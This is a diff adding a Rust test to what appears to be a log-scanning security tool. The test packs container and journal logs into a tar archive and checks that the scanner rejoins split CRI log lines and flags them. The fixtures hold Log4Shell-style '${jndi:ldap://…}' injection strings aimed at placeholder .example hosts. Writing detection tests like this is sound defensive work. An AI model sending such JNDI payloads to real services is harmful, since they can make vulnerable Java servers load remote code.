@@ -439,3 +439,43 @@ fn journalctl_json_lines_are_journal_entries() {
     assert_eq!(h["stream"], "stderr");
     assert_eq!(h["time"], "2025-11-27T14:00:00.000000000Z");
 }
+
+#[test]
+fn logs_inside_a_tar_keep_their_framing() {
+    // An export holding a CRI log (`P` parts to join), a local-driver file and a native
+    // journal file (not decodable here: said so).
+    let cri = b"2026-11-27T14:00:01.000000000Z stdout P GET /?q=${jn\n2026-11-27T14:00:01.000000001Z stderr F other\n2026-11-27T14:00:01.000000002Z stdout F di:ldap://cri-in-tar.example/a}\n";
+    let local =
+        local_entry("stdout", 1_764_252_000_000_000_000, b"x=${jndi:ldap://local-in-tar.example/a}\n", false);
+    let mut t = tar::Builder::new(Vec::new());
+    for (name, data) in [
+        (".dockerenv", &b""[..]),
+        ("etc/passwd", &b"root:x:0:0::/root:/bin/sh\n"[..]),
+        ("usr/bin/true", &b"x"[..]),
+        ("var/log/pods/ns_web_1/web/0.log", &cri[..]),
+        ("var/lib/docker/containers/abc/local-logs/container.log", &local[..]),
+        ("var/log/journal/0123/system.journal", &b"LPKSHHRH\0\0\0"[..]),
+    ] {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        t.append_data(&mut h, name, data).unwrap();
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let p = dir.path().join("export.tar");
+    std::fs::write(&p, t.into_inner().unwrap()).unwrap();
+    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    let hosts: Vec<(String, u64)> = b["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|h| h["rule"].as_str().unwrap().contains("jndi"))
+        .map(|h| (h["excerpt"].as_str().unwrap().to_string(), h["locator"]["line"].as_u64().unwrap()))
+        .collect();
+    assert!(hosts.iter().any(|(e, l)| e.contains("cri-in-tar.example") && *l == 1), "{hosts:?}");
+    assert!(hosts.iter().any(|(e, _)| e.contains("local-in-tar.example")), "{hosts:?}");
+    let msgs = b["diagnostics"].to_string();
+    assert!(msgs.contains("1 systemd journal file(s) in their native binary format not read"), "{msgs}");
+}
